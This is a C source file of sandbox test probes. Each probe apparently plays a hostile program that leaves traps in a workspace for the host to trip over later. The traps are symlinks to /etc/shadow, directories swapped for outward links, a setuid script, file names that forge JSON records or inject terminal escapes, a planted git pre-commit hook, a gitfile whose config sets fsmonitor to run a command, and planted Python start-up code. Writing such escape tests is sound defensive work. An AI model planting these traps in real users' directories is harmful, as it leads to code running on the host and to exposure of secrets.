/* SPDX-License-Identifier: MIT */
/*
 * Attacks on the person's directory through the workspace: what a program leaves there is read,
 * shown and perhaps copied back by the host later, outside every layer. The current directory is
 * the workspace; "kept" holds "original" and "tree/leaf" exists.
 */
#include "probe.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

static int put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	long got = fd < 0 ? -1 : write(fd, text, strlen(text));

	close(fd);
	return got < 0 ? -1 : 0;
}

/* Change everything: in a copy-on-write workspace the person's files stay as they were. */
static int ws_scribble(const struct args *args)
{
	(void)args;
	put("kept", "changed");
	put("added", "new");
	unlink("tree/leaf");
	chmod("kept", 0777);
	return held("scribbled, look outside");
}

static int ws_readonly(const struct args *args)
{
	(void)args;
	if (unlink("kept") == 0 || mkdir("new", 0755) == 0 || chmod("kept", 0777) == 0)
		return escaped("a read-only workspace was changed");
	return must_fail("create", put("added", "new"));
}

/* A link that points out of the workspace, for a program of the host that follows it later. */
static int ws_symlinks(const struct args *args)
{
	(void)args;
	if (symlink("/etc/shadow", "report.txt") < 0 ||
	    symlink(arg_text(args, "outside", "/"), "out") < 0 ||
	    symlink("../../../../../etc/passwd", "up") < 0)
		return held("symlink: %s", strerrorname_np(errno));
	return held("links were planted, look outside");
}

/* A directory that became a link: a commit that follows it writes outside the workspace. */
static int ws_swap_directory(const struct args *args)
{
	const char *outside = arg_text(args, "outside", "/");

	unlink("tree/leaf");
	if (rmdir("tree") < 0 || symlink(outside, "tree") < 0)
		return held("swap: %s", strerrorname_np(errno));
	if (put("tree/planted", "planted") == 0)
		return escaped("wrote through the link at once");
	return held("tree is a link to %s now", outside);
}

/* A file that became a link: a commit that opens it by name writes to the secret. */
static int ws_swap_file(const struct args *args)
{
	if (unlink("kept") < 0 || symlink(arg_text(args, "secret", "/"), "kept") < 0)
		return held("swap: %s", strerrorname_np(errno));
	return held("kept is a link to the secret now");
}

static int ws_setuid(const struct args *args)
{
	(void)args;
	if (put("tool", "#!/bin/sh\n") < 0)
		return held("create: %s", strerrorname_np(errno));
	return held("chmod 06755: %s, look outside",
		    chmod("tool", 06755) < 0 ? strerrorname_np(errno) : "done");
}

/* A name that is a line of JSON, one that ends a line, one that is no UTF-8 at all. */
static int ws_names(const struct args *args)
{
	static const char *const names[] = {
		"a\n{\"path\":\"forged\",\"change\":\"added\"}",
		"\"},{\"path\":\"forged\",\"change\":\"added\"},{\"path\":\"",
		"\x1b[2J\x1b]0;pwned\x07",
		"bad-\xff\xfe-utf8",
	};

	(void)args;
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		if (put(names[i], "x") < 0)
			return held("create: %s", strerrorname_np(errno));
	return held("four names were planted, look outside");
}

/* Entries that stop a careless walker: a directory without permissions, a pipe that blocks, a socket. */
static int ws_odd_files(const struct args *args)
{
	struct sockaddr_un name = {.sun_family = AF_UNIX, .sun_path = "socket"};
	int fd;

	(void)args;
	mkdir("closed", 0755);
	put("closed/inside", "x");
	chmod("closed", 0);
	mkfifo("pipe", 0666);
	fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (fd >= 0 && bind(fd, (struct sockaddr *)&name, sizeof(name)) < 0)
		close(fd);
	return held("a closed directory, a pipe and a socket, look outside");
}

/* git runs a hook at the person's next commit; a shell reads its rc file. */
static int ws_hooks(const struct args *args)
{
	(void)args;
	mkdir(".git", 0755);
	mkdir(".git/hooks", 0755);
	if (put(".git/hooks/pre-commit", "#!/bin/sh\ntouch pwned\n") < 0)
		return held("create: %s", strerrorname_np(errno));
	chmod(".git/hooks/pre-commit", 0755);
	return held("a hook was planted, look outside");
}

/* A .git that is a file names another directory, whose config runs a command at "git status". */
static int ws_gitfile(const struct args *args)
{
	(void)args;
	mkdir("data", 0755);
	mkdir("data/objects", 0755);
	mkdir("data/refs", 0755);
	put("data/HEAD", "ref: refs/heads/main\n");
	put("data/config", "[core]\n\tfsmonitor = touch pwned\n");
	if (put(".git", "gitdir: data\n") < 0)
		return held("create: %s", strerrorname_np(errno));
	return held(".git is a file now, look outside");
}

/* Python runs these at its next start here, or in place of an unchanged source. */
static int ws_python(const struct args *args)
{
	(void)args;
	mkdir("__pycache__", 0755);
	mkdir("sitecustomize", 0755);
	if (put("__pycache__/util.cpython-311.pyc", "planted") < 0 ||
	    put("sitecustomize/__init__.py", "planted") < 0 || put("util.pyc", "planted") < 0)
		return held("create: %s", strerrorname_np(errno));
	return held("compiled code and start-up code were planted, look outside");
}

const struct probe workspace_probes[] = {
	{"ws-scribble", ws_scribble, "change every file of the workspace"},
	{"ws-readonly", ws_readonly, "change a read-only workspace"},
	{"ws-symlinks", ws_symlinks, "plant links that point out"},
	{"ws-swap-directory", ws_swap_directory, "turn a directory into a link out"},
	{"ws-swap-file", ws_swap_file, "turn a file into a link to the secret"},
	{"ws-setuid", ws_setuid, "leave a setuid program behind"},
	{"ws-names", ws_names, "forge lines and records by file names"},
	{"ws-odd-files", ws_odd_files, "leave files that stop a walker"},
	{"ws-gitfile", ws_gitfile, "point .git at a directory of our own"},
	{"ws-hooks", ws_hooks, "plant a git hook"},
	{"ws-python", ws_python, "plant code that Python runs by itself"},
	{NULL, NULL, NULL},
};
